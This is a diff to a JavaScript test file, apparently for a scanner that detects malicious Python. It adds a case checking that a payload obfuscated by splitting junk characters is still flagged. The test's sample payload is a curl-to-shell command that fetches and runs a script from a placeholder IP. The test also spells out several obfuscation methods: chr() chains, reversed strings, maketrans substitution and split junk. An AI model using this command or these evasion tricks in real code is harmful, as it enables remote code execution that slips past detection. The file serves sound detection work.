@@ -490,7 +490,7 @@ test('data flows through methods called on self: a secret handed to self.send() 
   for (const source of [handed, returned]) assert.equal(ruleOf(findings(source), 'exfiltration')?.severity, 'high');
 });
 
-test('a long chr() + chr() chain, reversed() characters and a maketrans substitution are decoded payloads', () => {
+test('a long chr() + chr() chain, reversed() characters, a maketrans substitution and split junk are decoded payloads', () => {
   const code = 'import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n';
   const chain = [...code].map((c) => `chr(${c.charCodeAt(0)})`).join(' + ');
   const reversedText = JSON.stringify([...code].reverse().join(''));
@@ -501,6 +501,7 @@ test('a long chr() + chr() chain, reversed() characters and a maketrans substitu
     'a chr() chain longer than the depth bound': `exec(${chain})\n`,
     'reversed() characters joined': `exec("".join(reversed(${reversedText})))\n`,
     'a maketrans table': `T = str.maketrans("${lower}", "${shifted}")\nexec(${rot13}.translate(T))\n`,
+    'junk between letters split away': `exec("".join(${JSON.stringify([...code].join('_'))}.split("_")))\n`,
   };
   for (const [how, source] of Object.entries(sources)) {
     const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
